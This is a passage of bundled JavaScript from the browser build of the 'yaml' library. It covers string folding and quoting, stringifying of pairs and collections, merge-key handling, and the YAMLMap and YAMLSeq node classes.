      if (ch === " " && prev && prev !== " " && prev !== "\n" && prev !== "	") {
        const next = text[i + 1];
        if (next && next !== " " && next !== "\n" && next !== "	")
          split = i;
      }
      if (i >= end) {
        if (split) {
          folds.push(split);
          end = split + endStep;
          split = void 0;
        } else if (mode === FOLD_QUOTED) {
          while (prev === " " || prev === "	") {
            prev = ch;
            ch = text[i += 1];
            overflow = true;
          }
          const j = i > escEnd + 1 ? i - 2 : escStart - 1;
          if (escapedFolds[j])
            return text;
          folds.push(j);
          escapedFolds[j] = true;
          end = j + endStep;
          split = void 0;
        } else {
          overflow = true;
        }
      }
    }
    prev = ch;
  }
  if (overflow && onOverflow)
    onOverflow();
  if (folds.length === 0)
    return text;
  if (onFold)
    onFold();
  let res = text.slice(0, folds[0]);
  for (let i2 = 0; i2 < folds.length; ++i2) {
    const fold = folds[i2];
    const end2 = folds[i2 + 1] || text.length;
    if (fold === 0)
      res = `
${indent}${text.slice(0, end2)}`;
    else {
      if (mode === FOLD_QUOTED && escapedFolds[fold])
        res += `${text[fold]}\\`;
      res += `
${indent}${text.slice(fold + 1, end2)}`;
    }
  }
  return res;
}
function consumeMoreIndentedLines(text, i, indent) {
  let end = i;
  let start = i + 1;
  let ch = text[start];
  while (ch === " " || ch === "	") {
    if (i < start + indent) {
      ch = text[++i];
    } else {
      do {
        ch = text[++i];
      } while (ch && ch !== "\n");
      end = i;
      start = i + 1;
      ch = text[start];
    }
  }
  return end;
}

// node_modules/yaml/browser/dist/stringify/stringifyString.js
var getFoldOptions = (ctx, isBlock2) => ({
  indentAtStart: isBlock2 ? ctx.indent.length : ctx.indentAtStart,
  lineWidth: ctx.options.lineWidth,
  minContentWidth: ctx.options.minContentWidth
});
var containsDocumentMarker = (str) => /^(%|---|\.\.\.)/m.test(str);
function lineLengthOverLimit(str, lineWidth, indentLength) {
  if (!lineWidth || lineWidth < 0)
    return false;
  const limit = lineWidth - indentLength;
  const strLen = str.length;
  if (strLen <= limit)
    return false;
  for (let i = 0, start = 0; i < strLen; ++i) {
    if (str[i] === "\n") {
      if (i - start > limit)
        return true;
      start = i + 1;
      if (strLen - start <= limit)
        return false;
    }
  }
  return true;
}
function doubleQuotedString(value, ctx) {
  const json = JSON.stringify(value);
  if (ctx.options.doubleQuotedAsJSON)
    return json;
  const { implicitKey } = ctx;
  const minMultiLineLength = ctx.options.doubleQuotedMinMultiLineLength;
  const indent = ctx.indent || (containsDocumentMarker(value) ? "  " : "");
  let str = "";
  let start = 0;
  for (let i = 0, ch = json[i]; ch; ch = json[++i]) {
    if (ch === " " && json[i + 1] === "\\" && json[i + 2] === "n") {
      str += json.slice(start, i) + "\\ ";
      i += 1;
      start = i;
      ch = "\\";
    }
    if (ch === "\\")
      switch (json[i + 1]) {
        case "u":
          {
            str += json.slice(start, i);
            const code = json.substr(i + 2, 4);
            switch (code) {
              case "0000":
                str += "\\0";
                break;
              case "0007":
                str += "\\a";
                break;
              case "000b":
                str += "\\v";
                break;
              case "001b":
                str += "\\e";
                break;
              case "0085":
                str += "\\N";
                break;
              case "00a0":
                str += "\\_";
                break;
              case "2028":
                str += "\\L";
                break;
              case "2029":
                str += "\\P";
                break;
              default:
                if (code.substr(0, 2) === "00")
                  str += "\\x" + code.substr(2);
                else
                  str += json.substr(i, 6);
            }
            i += 5;
            start = i + 1;
          }
          break;
        case "n":
          if (implicitKey || json[i + 2] === '"' || json.length < minMultiLineLength) {
            i += 1;
          } else {
            str += json.slice(start, i) + "\n\n";
            while (json[i + 2] === "\\" && json[i + 3] === "n" && json[i + 4] !== '"') {
              str += "\n";
              i += 2;
            }
            str += indent;
            if (json[i + 2] === " ")
              str += "\\";
            i += 1;
            start = i + 1;
          }
          break;
        default:
          i += 1;
      }
  }
  str = start ? str + json.slice(start) : json;
  return implicitKey ? str : foldFlowLines(str, indent, FOLD_QUOTED, getFoldOptions(ctx, false));
}
function singleQuotedString(value, ctx) {
  if (ctx.options.singleQuote === false || ctx.implicitKey && value.includes("\n") || /[ \t]\n|\n[ \t]/.test(value))
    return doubleQuotedString(value, ctx);
  const indent = ctx.indent || (containsDocumentMarker(value) ? "  " : "");
  const res = "'" + value.replace(/'/g, "''").replace(/\n+/g, `$&
${indent}`) + "'";
  return ctx.implicitKey ? res : foldFlowLines(res, indent, FOLD_FLOW, getFoldOptions(ctx, false));
}
function quotedString(value, ctx) {
  const { singleQuote } = ctx.options;
  let qs;
  if (singleQuote === false)
    qs = doubleQuotedString;
  else {
    const hasDouble = value.includes('"');
    const hasSingle = value.includes("'");
    if (hasDouble && !hasSingle)
      qs = singleQuotedString;
    else if (hasSingle && !hasDouble)
      qs = doubleQuotedString;
    else
      qs = singleQuote ? singleQuotedString : doubleQuotedString;
  }
  return qs(value, ctx);
}
var blockEndNewlines;
try {
  blockEndNewlines = new RegExp("(^|(?<!\n))\n+(?!\n|$)", "g");
} catch {
  blockEndNewlines = /\n+(?!\n|$)/g;
}
function blockString({ comment, type, value }, ctx, onComment, onChompKeep) {
  const { blockQuote, commentString, lineWidth } = ctx.options;
  if (!blockQuote || /\n[\t ]+$/.test(value)) {
    return quotedString(value, ctx);
  }
  const indent = ctx.indent || (ctx.forceBlockIndent || containsDocumentMarker(value) ? "  " : "");
  const literal = blockQuote === "literal" ? true : blockQuote === "folded" || type === Scalar.BLOCK_FOLDED ? false : type === Scalar.BLOCK_LITERAL ? true : !lineLengthOverLimit(value, lineWidth, indent.length);
  if (!value)
    return literal ? "|\n" : ">\n";
  let chomp;
  let endStart;
  for (endStart = value.length; endStart > 0; --endStart) {
    const ch = value[endStart - 1];
    if (ch !== "\n" && ch !== "	" && ch !== " ")
      break;
  }
  let end = value.substring(endStart);
  const endNlPos = end.indexOf("\n");
  if (endNlPos === -1) {
    chomp = "-";
  } else if (value === end || endNlPos !== end.length - 1) {
    chomp = "+";
    if (onChompKeep)
      onChompKeep();
  } else {
    chomp = "";
  }
  if (end) {
    value = value.slice(0, -end.length);
    if (end[end.length - 1] === "\n")
      end = end.slice(0, -1);
    end = end.replace(blockEndNewlines, `$&${indent}`);
  }
  let startWithSpace = false;
  let startEnd;
  let startNlPos = -1;
  for (startEnd = 0; startEnd < value.length; ++startEnd) {
    const ch = value[startEnd];
    if (ch === " ")
      startWithSpace = true;
    else if (ch === "\n")
      startNlPos = startEnd;
    else
      break;
  }
  let start = value.substring(0, startNlPos < startEnd ? startNlPos + 1 : startEnd);
  if (start) {
    value = value.substring(start.length);
    start = start.replace(/\n+/g, `$&${indent}`);
  }
  const indentSize = indent ? "2" : "1";
  let header = (startWithSpace ? indentSize : "") + chomp;
  if (comment) {
    header += " " + commentString(comment.replace(/ ?[\r\n]+/g, " "));
    if (onComment)
      onComment();
  }
  if (!literal) {
    const foldedValue = value.replace(/\n+/g, "\n$&").replace(/(?:^|\n)([\t ].*)(?:([\n\t ]*)\n(?![\n\t ]))?/g, "$1$2").replace(/\n+/g, `$&${indent}`);
    let literalFallback = false;
    const foldOptions = getFoldOptions(ctx, true);
    if (blockQuote !== "folded" && type !== Scalar.BLOCK_FOLDED) {
      foldOptions.onOverflow = () => {
        literalFallback = true;
      };
    }
    const body = foldFlowLines(`${start}${foldedValue}${end}`, indent, FOLD_BLOCK, foldOptions);
    if (!literalFallback)
      return `>${header}
${indent}${body}`;
  }
  value = value.replace(/\n+/g, `$&${indent}`);
  return `|${header}
${indent}${start}${value}${end}`;
}
function plainString(item, ctx, onComment, onChompKeep) {
  const { type, value } = item;
  const { actualString, implicitKey, indent, indentStep: indentStep2, inFlow } = ctx;
  if (implicitKey && value.includes("\n") || inFlow && /[[\]{},]/.test(value)) {
    return quotedString(value, ctx);
  }
  if (/^[\n\t ,[\]{}#&*!|>'"%@`]|^[?-]$|^[?-][ \t]|[\n:][ \t]|[ \t]\n|[\n\t ]#|[\n\t :]$/.test(value)) {
    return implicitKey || inFlow || !value.includes("\n") ? quotedString(value, ctx) : blockString(item, ctx, onComment, onChompKeep);
  }
  if (!implicitKey && !inFlow && type !== Scalar.PLAIN && value.includes("\n")) {
    return blockString(item, ctx, onComment, onChompKeep);
  }
  if (containsDocumentMarker(value)) {
    if (indent === "") {
      ctx.forceBlockIndent = true;
      return blockString(item, ctx, onComment, onChompKeep);
    } else if (implicitKey && indent === indentStep2) {
      return quotedString(value, ctx);
    }
  }
  const str = value.replace(/\n+/g, `$&
${indent}`);
  if (actualString) {
    const test = (tag) => tag.default && tag.tag !== "tag:yaml.org,2002:str" && tag.test?.test(str);
    const { compat, tags } = ctx.doc.schema;
    if (tags.some(test) || compat?.some(test))
      return quotedString(value, ctx);
  }
  return implicitKey ? str : foldFlowLines(str, indent, FOLD_FLOW, getFoldOptions(ctx, false));
}
function stringifyString(item, ctx, onComment, onChompKeep) {
  const { implicitKey, inFlow } = ctx;
  const ss = typeof item.value === "string" ? item : Object.assign({}, item, { value: String(item.value) });
  let { type } = item;
  if (type !== Scalar.QUOTE_DOUBLE) {
    if (/[\x00-\x08\x0b-\x1f\x7f-\x9f\u{D800}-\u{DFFF}]/u.test(ss.value))
      type = Scalar.QUOTE_DOUBLE;
  }
  const _stringify = (_type) => {
    switch (_type) {
      case Scalar.BLOCK_FOLDED:
      case Scalar.BLOCK_LITERAL:
        return implicitKey || inFlow ? quotedString(ss.value, ctx) : blockString(ss, ctx, onComment, onChompKeep);
      case Scalar.QUOTE_DOUBLE:
        return doubleQuotedString(ss.value, ctx);
      case Scalar.QUOTE_SINGLE:
        return singleQuotedString(ss.value, ctx);
      case Scalar.PLAIN:
        return plainString(ss, ctx, onComment, onChompKeep);
      default:
        return null;
    }
  };
  let res = _stringify(type);
  if (res === null) {
    const { defaultKeyType, defaultStringType } = ctx.options;
    const t = implicitKey && defaultKeyType || defaultStringType;
    res = _stringify(t);
    if (res === null)
      throw new Error(`Unsupported default string type ${t}`);
  }
  return res;
}

// node_modules/yaml/browser/dist/stringify/stringify.js
function createStringifyContext(doc, options) {
  const opt = Object.assign({
    blockQuote: true,
    commentString: stringifyComment,
    defaultKeyType: null,
    defaultStringType: "PLAIN",
    directives: null,
    doubleQuotedAsJSON: false,
    doubleQuotedMinMultiLineLength: 40,
    falseStr: "false",
    flowCollectionPadding: true,
    indentSeq: true,
    lineWidth: 80,
    minContentWidth: 20,
    nullStr: "null",
    simpleKeys: false,
    singleQuote: null,
    trailingComma: false,
    trueStr: "true",
    verifyAliasOrder: true
  }, doc.schema.toStringOptions, options);
  let inFlow;
  switch (opt.collectionStyle) {
    case "block":
      inFlow = false;
      break;
    case "flow":
      inFlow = true;
      break;
    default:
      inFlow = null;
  }
  return {
    anchors: /* @__PURE__ */ new Set(),
    doc,
    flowCollectionPadding: opt.flowCollectionPadding ? " " : "",
    indent: "",
    indentStep: typeof opt.indent === "number" ? " ".repeat(opt.indent) : "  ",
    inFlow,
    options: opt
  };
}
function getTagObject(tags, item) {
  if (item.tag) {
    const match = tags.filter((t) => t.tag === item.tag);
    if (match.length > 0)
      return match.find((t) => t.format === item.format) ?? match[0];
  }
  let tagObj = void 0;
  let obj;
  if (isScalar(item)) {
    obj = item.value;
    let match = tags.filter((t) => t.identify?.(obj));
    if (match.length > 1) {
      const testMatch = match.filter((t) => t.test);
      if (testMatch.length > 0)
        match = testMatch;
    }
    tagObj = match.find((t) => t.format === item.format) ?? match.find((t) => !t.format);
  } else {
    obj = item;
    tagObj = tags.find((t) => t.nodeClass && obj instanceof t.nodeClass);
  }
  if (!tagObj) {
    const name = obj?.constructor?.name ?? (obj === null ? "null" : typeof obj);
    throw new Error(`Tag not resolved for ${name} value`);
  }
  return tagObj;
}
function stringifyProps(node, tagObj, { anchors, doc }) {
  if (!doc.directives)
    return "";
  const props = [];
  const anchor = (isScalar(node) || isCollection(node)) && node.anchor;
  if (anchor && anchorIsValid(anchor)) {
    anchors.add(anchor);
    props.push(`&${anchor}`);
  }
  const tag = node.tag ?? (tagObj.default ? null : tagObj.tag);
  if (tag)
    props.push(doc.directives.tagString(tag));
  return props.join(" ");
}
function stringify(item, ctx, onComment, onChompKeep) {
  if (isPair(item))
    return item.toString(ctx, onComment, onChompKeep);
  if (isAlias(item)) {
    if (ctx.doc.directives)
      return item.toString(ctx);
    if (ctx.resolvedAliases?.has(item)) {
      throw new TypeError(`Cannot stringify circular structure without alias nodes`);
    } else {
      if (ctx.resolvedAliases)
        ctx.resolvedAliases.add(item);
      else
        ctx.resolvedAliases = /* @__PURE__ */ new Set([item]);
      item = item.resolve(ctx.doc);
    }
  }
  let tagObj = void 0;
  const node = isNode(item) ? item : ctx.doc.createNode(item, { onTagObj: (o) => tagObj = o });
  tagObj ?? (tagObj = getTagObject(ctx.doc.schema.tags, node));
  const props = stringifyProps(node, tagObj, ctx);
  if (props.length > 0)
    ctx.indentAtStart = (ctx.indentAtStart ?? 0) + props.length + 1;
  const str = typeof tagObj.stringify === "function" ? tagObj.stringify(node, ctx, onComment, onChompKeep) : isScalar(node) ? stringifyString(node, ctx, onComment, onChompKeep) : node.toString(ctx, onComment, onChompKeep);
  if (!props)
    return str;
  return isScalar(node) || str[0] === "{" || str[0] === "[" ? `${props} ${str}` : `${props}
${ctx.indent}${str}`;
}

// node_modules/yaml/browser/dist/stringify/stringifyPair.js
function stringifyPair({ key, value }, ctx, onComment, onChompKeep) {
  const { allNullValues, doc, indent, indentStep: indentStep2, options: { commentString, indentSeq, simpleKeys } } = ctx;
  let keyComment = isNode(key) && key.comment || null;
  if (simpleKeys) {
    if (keyComment) {
      throw new Error("With simple keys, key nodes cannot have comments");
    }
    if (isCollection(key) || !isNode(key) && typeof key === "object") {
      const msg = "With simple keys, collection cannot be used as a key value";
      throw new Error(msg);
    }
  }
  let explicitKey = !simpleKeys && (!key || keyComment && value == null && !ctx.inFlow || isCollection(key) || (isScalar(key) ? key.type === Scalar.BLOCK_FOLDED || key.type === Scalar.BLOCK_LITERAL : typeof key === "object"));
  ctx = Object.assign({}, ctx, {
    allNullValues: false,
    implicitKey: !explicitKey && (simpleKeys || !allNullValues),
    indent: indent + indentStep2
  });
  let keyCommentDone = false;
  let chompKeep = false;
  let str = stringify(key, ctx, () => keyCommentDone = true, () => chompKeep = true);
  if (!explicitKey && !ctx.inFlow && str.length > 1024) {
    if (simpleKeys)
      throw new Error("With simple keys, single line scalar must not span more than 1024 characters");
    explicitKey = true;
  }
  if (ctx.inFlow) {
    if (allNullValues || value == null) {
      if (keyCommentDone && onComment)
        onComment();
      return str === "" ? "?" : explicitKey ? `? ${str}` : str;
    }
  } else if (allNullValues && !simpleKeys || value == null && explicitKey) {
    str = `? ${str}`;
    if (keyComment && !keyCommentDone) {
      str += lineComment(str, ctx.indent, commentString(keyComment));
    } else if (chompKeep && onChompKeep)
      onChompKeep();
    return str;
  }
  if (keyCommentDone)
    keyComment = null;
  if (explicitKey) {
    if (keyComment)
      str += lineComment(str, ctx.indent, commentString(keyComment));
    str = `? ${str}
${indent}:`;
  } else {
    str = `${str}:`;
    if (keyComment)
      str += lineComment(str, ctx.indent, commentString(keyComment));
  }
  let vsb, vcb, valueComment;
  if (isNode(value)) {
    vsb = !!value.spaceBefore;
    vcb = value.commentBefore;
    valueComment = value.comment;
  } else {
    vsb = false;
    vcb = null;
    valueComment = null;
    if (value && typeof value === "object")
      value = doc.createNode(value);
  }
  ctx.implicitKey = false;
  if (!explicitKey && !keyComment && isScalar(value))
    ctx.indentAtStart = str.length + 1;
  chompKeep = false;
  if (!indentSeq && indentStep2.length >= 2 && !ctx.inFlow && !explicitKey && isSeq(value) && !value.flow && !value.tag && !value.anchor) {
    ctx.indent = ctx.indent.substring(2);
  }
  let valueCommentDone = false;
  const valueStr = stringify(value, ctx, () => valueCommentDone = true, () => chompKeep = true);
  let ws = " ";
  if (keyComment || vsb || vcb) {
    ws = vsb ? "\n" : "";
    if (vcb) {
      const cs = commentString(vcb);
      ws += `
${indentComment(cs, ctx.indent)}`;
    }
    if (valueStr === "" && !ctx.inFlow) {
      if (ws === "\n" && valueComment)
        ws = "\n\n";
    } else {
      ws += `
${ctx.indent}`;
    }
  } else if (!explicitKey && isCollection(value)) {
    const vs0 = valueStr[0];
    const nl0 = valueStr.indexOf("\n");
    const hasNewline = nl0 !== -1;
    const flow = ctx.inFlow ?? value.flow ?? value.items.length === 0;
    if (hasNewline || !flow) {
      let hasPropsLine = false;
      if (hasNewline && (vs0 === "&" || vs0 === "!")) {
        let sp0 = valueStr.indexOf(" ");
        if (vs0 === "&" && sp0 !== -1 && sp0 < nl0 && valueStr[sp0 + 1] === "!") {
          sp0 = valueStr.indexOf(" ", sp0 + 1);
        }
        if (sp0 === -1 || nl0 < sp0)
          hasPropsLine = true;
      }
      if (!hasPropsLine)
        ws = `
${ctx.indent}`;
    }
  } else if (valueStr === "" || valueStr[0] === "\n") {
    ws = "";
  }
  str += ws + valueStr;
  if (ctx.inFlow) {
    if (valueCommentDone && onComment)
      onComment();
  } else if (valueComment && !valueCommentDone) {
    str += lineComment(str, ctx.indent, commentString(valueComment));
  } else if (chompKeep && onChompKeep) {
    onChompKeep();
  }
  return str;
}

// node_modules/yaml/browser/dist/log.js
function warn(logLevel, warning) {
  if (logLevel === "debug" || logLevel === "warn") {
    console.warn(warning);
  }
}

// node_modules/yaml/browser/dist/schema/yaml-1.1/merge.js
var MERGE_KEY = "<<";
var merge = {
  identify: (value) => value === MERGE_KEY || typeof value === "symbol" && value.description === MERGE_KEY,
  default: "key",
  tag: "tag:yaml.org,2002:merge",
  test: /^<<$/,
  resolve: () => Object.assign(new Scalar(Symbol(MERGE_KEY)), {
    addToJSMap: addMergeToJSMap
  }),
  stringify: () => MERGE_KEY
};
var isMergeKey = (ctx, key) => (merge.identify(key) || isScalar(key) && (!key.type || key.type === Scalar.PLAIN) && merge.identify(key.value)) && ctx?.doc.schema.tags.some((tag) => tag.tag === merge.tag && tag.default);
function addMergeToJSMap(ctx, map2, value) {
  const source = resolveAliasValue(ctx, value);
  if (isSeq(source))
    for (const it of source.items)
      mergeValue(ctx, map2, it);
  else if (Array.isArray(source))
    for (const it of source)
      mergeValue(ctx, map2, it);
  else
    mergeValue(ctx, map2, source);
}
function mergeValue(ctx, map2, value) {
  const source = resolveAliasValue(ctx, value);
  if (!isMap(source))
    throw new Error("Merge sources must be maps or map aliases");
  const srcMap = source.toJSON(null, ctx, Map);
  for (const [key, value2] of srcMap) {
    if (map2 instanceof Map) {
      if (!map2.has(key))
        map2.set(key, value2);
    } else if (map2 instanceof Set) {
      map2.add(key);
    } else if (!Object.prototype.hasOwnProperty.call(map2, key)) {
      Object.defineProperty(map2, key, {
        value: value2,
        writable: true,
        enumerable: true,
        configurable: true
      });
    }
  }
  return map2;
}
function resolveAliasValue(ctx, value) {
  return ctx && isAlias(value) ? value.resolve(ctx.doc, ctx) : value;
}

// node_modules/yaml/browser/dist/nodes/addPairToJSMap.js
function addPairToJSMap(ctx, map2, { key, value }) {
  if (isNode(key) && key.addToJSMap)
    key.addToJSMap(ctx, map2, value);
  else if (isMergeKey(ctx, key))
    addMergeToJSMap(ctx, map2, value);
  else {
    const jsKey = toJS(key, "", ctx);
    if (map2 instanceof Map) {
      map2.set(jsKey, toJS(value, jsKey, ctx));
    } else if (map2 instanceof Set) {
      map2.add(jsKey);
    } else {
      const stringKey = stringifyKey(key, jsKey, ctx);
      const jsValue = toJS(value, stringKey, ctx);
      if (stringKey in map2)
        Object.defineProperty(map2, stringKey, {
          value: jsValue,
          writable: true,
          enumerable: true,
          configurable: true
        });
      else
        map2[stringKey] = jsValue;
    }
  }
  return map2;
}
function stringifyKey(key, jsKey, ctx) {
  if (jsKey === null)
    return "";
  if (typeof jsKey !== "object")
    return String(jsKey);
  if (isNode(key) && ctx?.doc) {
    const strCtx = createStringifyContext(ctx.doc, {});
    strCtx.anchors = /* @__PURE__ */ new Set();
    for (const node of ctx.anchors.keys())
      strCtx.anchors.add(node.anchor);
    strCtx.inFlow = true;
    strCtx.inStringifyKey = true;
    const strKey = key.toString(strCtx);
    if (!ctx.mapKeyWarned) {
      let jsonStr = JSON.stringify(strKey);
      if (jsonStr.length > 40)
        jsonStr = jsonStr.substring(0, 36) + '..."';
      warn(ctx.doc.options.logLevel, `Keys with collection values will be stringified due to JS Object restrictions: ${jsonStr}. Set mapAsMap: true to use object keys.`);
      ctx.mapKeyWarned = true;
    }
    return strKey;
  }
  return JSON.stringify(jsKey);
}

// node_modules/yaml/browser/dist/nodes/Pair.js
function createPair(key, value, ctx) {
  const k = createNode(key, void 0, ctx);
  const v2 = createNode(value, void 0, ctx);
  return new Pair(k, v2);
}
var Pair = class _Pair {
  constructor(key, value = null) {
    Object.defineProperty(this, NODE_TYPE, { value: PAIR });
    this.key = key;
    this.value = value;
  }
  clone(schema4) {
    let { key, value } = this;
    if (isNode(key))
      key = key.clone(schema4);
    if (isNode(value))
      value = value.clone(schema4);
    return new _Pair(key, value);
  }
  toJSON(_, ctx) {
    const pair = ctx?.mapAsMap ? /* @__PURE__ */ new Map() : {};
    return addPairToJSMap(ctx, pair, this);
  }
  toString(ctx, onComment, onChompKeep) {
    return ctx?.doc ? stringifyPair(this, ctx, onComment, onChompKeep) : JSON.stringify(this);
  }
};

// node_modules/yaml/browser/dist/stringify/stringifyCollection.js
function stringifyCollection(collection, ctx, options) {
  const flow = ctx.inFlow ?? collection.flow;
  const stringify4 = flow ? stringifyFlowCollection : stringifyBlockCollection;
  return stringify4(collection, ctx, options);
}
function stringifyBlockCollection({ comment, items }, ctx, { blockItemPrefix, flowChars, itemIndent, onChompKeep, onComment }) {
  const { indent, options: { commentString } } = ctx;
  const itemCtx = Object.assign({}, ctx, { indent: itemIndent, type: null });
  let chompKeep = false;
  const lines = [];
  for (let i = 0; i < items.length; ++i) {
    const item = items[i];
    let comment2 = null;
    if (isNode(item)) {
      if (!chompKeep && item.spaceBefore)
        lines.push("");
      addCommentBefore(ctx, lines, item.commentBefore, chompKeep);
      if (item.comment)
        comment2 = item.comment;
    } else if (isPair(item)) {
      const ik = isNode(item.key) ? item.key : null;
      if (ik) {
        if (!chompKeep && ik.spaceBefore)
          lines.push("");
        addCommentBefore(ctx, lines, ik.commentBefore, chompKeep);
      }
    }
    chompKeep = false;
    let str2 = stringify(item, itemCtx, () => comment2 = null, () => chompKeep = true);
    if (comment2)
      str2 += lineComment(str2, itemIndent, commentString(comment2));
    if (chompKeep && comment2)
      chompKeep = false;
    lines.push(blockItemPrefix + str2);
  }
  let str;
  if (lines.length === 0) {
    str = flowChars.start + flowChars.end;
  } else {
    str = lines[0];
    for (let i = 1; i < lines.length; ++i) {
      const line = lines[i];
      str += line ? `
${indent}${line}` : "\n";
    }
  }
  if (comment) {
    str += "\n" + indentComment(commentString(comment), indent);
    if (onComment)
      onComment();
  } else if (chompKeep && onChompKeep)
    onChompKeep();
  return str;
}
function stringifyFlowCollection({ items }, ctx, { flowChars, itemIndent }) {
  const { indent, indentStep: indentStep2, flowCollectionPadding: fcPadding, options: { commentString } } = ctx;
  itemIndent += indentStep2;
  const itemCtx = Object.assign({}, ctx, {
    indent: itemIndent,
    inFlow: true,
    type: null
  });
  let reqNewline = false;
  let linesAtValue = 0;
  const lines = [];
  for (let i = 0; i < items.length; ++i) {
    const item = items[i];
    let comment = null;
    if (isNode(item)) {
      if (item.spaceBefore)
        lines.push("");
      addCommentBefore(ctx, lines, item.commentBefore, false);
      if (item.comment)
        comment = item.comment;
    } else if (isPair(item)) {
      const ik = isNode(item.key) ? item.key : null;
      if (ik) {
        if (ik.spaceBefore)
          lines.push("");
        addCommentBefore(ctx, lines, ik.commentBefore, false);
        if (ik.comment)
          reqNewline = true;
      }
      const iv = isNode(item.value) ? item.value : null;
      if (iv) {
        if (iv.comment)
          comment = iv.comment;
        if (iv.commentBefore)
          reqNewline = true;
      } else if (item.value == null && ik?.comment) {
        comment = ik.comment;
      }
    }
    if (comment)
      reqNewline = true;
    let str = stringify(item, itemCtx, () => comment = null);
    reqNewline || (reqNewline = lines.length > linesAtValue || str.includes("\n"));
    if (i < items.length - 1) {
      str += ",";
    } else if (ctx.options.trailingComma) {
      if (ctx.options.lineWidth > 0) {
        reqNewline || (reqNewline = lines.reduce((sum, line) => sum + line.length + 2, 2) + (str.length + 2) > ctx.options.lineWidth);
      }
      if (reqNewline) {
        str += ",";
      }
    }
    if (comment)
      str += lineComment(str, itemIndent, commentString(comment));
    lines.push(str);
    linesAtValue = lines.length;
  }
  const { start, end } = flowChars;
  if (lines.length === 0) {
    return start + end;
  } else {
    if (!reqNewline) {
      const len = lines.reduce((sum, line) => sum + line.length + 2, 2);
      reqNewline = ctx.options.lineWidth > 0 && len > ctx.options.lineWidth;
    }
    if (reqNewline) {
      let str = start;
      for (const line of lines)
        str += line ? `
${indentStep2}${indent}${line}` : "\n";
      return `${str}
${indent}${end}`;
    } else {
      return `${start}${fcPadding}${lines.join(" ")}${fcPadding}${end}`;
    }
  }
}
function addCommentBefore({ indent, options: { commentString } }, lines, comment, chompKeep) {
  if (comment && chompKeep)
    comment = comment.replace(/^\n+/, "");
  if (comment) {
    const ic = indentComment(commentString(comment), indent);
    lines.push(ic.trimStart());
  }
}

// node_modules/yaml/browser/dist/nodes/YAMLMap.js
function findPair(items, key) {
  const k = isScalar(key) ? key.value : key;
  for (const it of items) {
    if (isPair(it)) {
      if (it.key === key || it.key === k)
        return it;
      if (isScalar(it.key) && it.key.value === k)
        return it;
    }
  }
  return void 0;
}
var YAMLMap = class extends Collection {
  static get tagName() {
    return "tag:yaml.org,2002:map";
  }
  constructor(schema4) {
    super(MAP, schema4);
    this.items = [];
  }
  /**
   * A generic collection parsing method that can be extended
   * to other node classes that inherit from YAMLMap
   */
  static from(schema4, obj, ctx) {
    const { keepUndefined, replacer } = ctx;
    const map2 = new this(schema4);
    const add = (key, value) => {
      if (typeof replacer === "function")
        value = replacer.call(obj, key, value);
      else if (Array.isArray(replacer) && !replacer.includes(key))
        return;
      if (value !== void 0 || keepUndefined)
        map2.items.push(createPair(key, value, ctx));
    };
    if (obj instanceof Map) {
      for (const [key, value] of obj)
        add(key, value);
    } else if (obj && typeof obj === "object") {
      for (const key of Object.keys(obj))
        add(key, obj[key]);
    }
    if (typeof schema4.sortMapEntries === "function") {
      map2.items.sort(schema4.sortMapEntries);
    }
    return map2;
  }
  /**
   * Adds a value to the collection.
   *
   * @param overwrite - If not set `true`, using a key that is already in the
   *   collection will throw. Otherwise, overwrites the previous value.
   */
  add(pair, overwrite) {
    let _pair;
    if (isPair(pair))
      _pair = pair;
    else if (!pair || typeof pair !== "object" || !("key" in pair)) {
      _pair = new Pair(pair, pair?.value);
    } else
      _pair = new Pair(pair.key, pair.value);
    const prev = findPair(this.items, _pair.key);
    const sortEntries = this.schema?.sortMapEntries;
    if (prev) {
      if (!overwrite)
        throw new Error(`Key ${_pair.key} already set`);
      if (isScalar(prev.value) && isScalarValue(_pair.value))
        prev.value.value = _pair.value;
      else
        prev.value = _pair.value;
    } else if (sortEntries) {
      const i = this.items.findIndex((item) => sortEntries(_pair, item) < 0);
      if (i === -1)
        this.items.push(_pair);
      else
        this.items.splice(i, 0, _pair);
    } else {
      this.items.push(_pair);
    }
  }
  delete(key) {
    const it = findPair(this.items, key);
    if (!it)
      return false;
    const del = this.items.splice(this.items.indexOf(it), 1);
    return del.length > 0;
  }
  get(key, keepScalar) {
    const it = findPair(this.items, key);
    const node = it?.value;
    return (!keepScalar && isScalar(node) ? node.value : node) ?? void 0;
  }
  has(key) {
    return !!findPair(this.items, key);
  }
  set(key, value) {
    this.add(new Pair(key, value), true);
  }
  /**
   * @param ctx - Conversion context, originally set in Document#toJS()
   * @param {Class} Type - If set, forces the returned collection type
   * @returns Instance of Type, Map, or Object
   */
  toJSON(_, ctx, Type) {
    const map2 = Type ? new Type() : ctx?.mapAsMap ? /* @__PURE__ */ new Map() : {};
    if (ctx?.onCreate)
      ctx.onCreate(map2);
    for (const item of this.items)
      addPairToJSMap(ctx, map2, item);
    return map2;
  }
  toString(ctx, onComment, onChompKeep) {
    if (!ctx)
      return JSON.stringify(this);
    for (const item of this.items) {
      if (!isPair(item))
        throw new Error(`Map items must all be pairs; found ${JSON.stringify(item)} instead`);
    }
    if (!ctx.allNullValues && this.hasAllNullValues(false))
      ctx = Object.assign({}, ctx, { allNullValues: true });
    return stringifyCollection(this, ctx, {
      blockItemPrefix: "",
      flowChars: { start: "{", end: "}" },
      itemIndent: ctx.indent || "",
      onChompKeep,
      onComment
    });
  }
};

// node_modules/yaml/browser/dist/schema/common/map.js
var map = {
  collection: "map",
  default: true,
  nodeClass: YAMLMap,
  tag: "tag:yaml.org,2002:map",
  resolve(map2, onError) {
    if (!isMap(map2))
      onError("Expected a mapping for this tag");
    return map2;
  },
  createNode: (schema4, obj, ctx) => YAMLMap.from(schema4, obj, ctx)
};

// node_modules/yaml/browser/dist/nodes/YAMLSeq.js
var YAMLSeq = class extends Collection {
  static get tagName() {
    return "tag:yaml.org,2002:seq";
  }
  constructor(schema4) {
    super(SEQ, schema4);
    this.items = [];
  }
  add(value) {
    this.items.push(value);
  }
  /**
   * Removes a value from the collection.
   *
   * `key` must contain a representation of an integer for this to succeed.
   * It may be wrapped in a `Scalar`.
   *
   * @returns `true` if the item was found and removed.
   */
  delete(key) {
    const idx = asItemIndex(key);
    if (typeof idx !== "number")
      return false;
    const del = this.items.splice(idx, 1);
    return del.length > 0;
  }
  get(key, keepScalar) {
    const idx = asItemIndex(key);
    if (typeof idx !== "number")
      return void 0;
    const it = this.items[idx];
    return !keepScalar && isScalar(it) ? it.value : it;
  }
  /**
   * Checks if the collection includes a value with the key `key`.
   *
   * `key` must contain a representation of an integer for this to succeed.
   * It may be wrapped in a `Scalar`.
   */
  has(key) {
    const idx = asItemIndex(key);
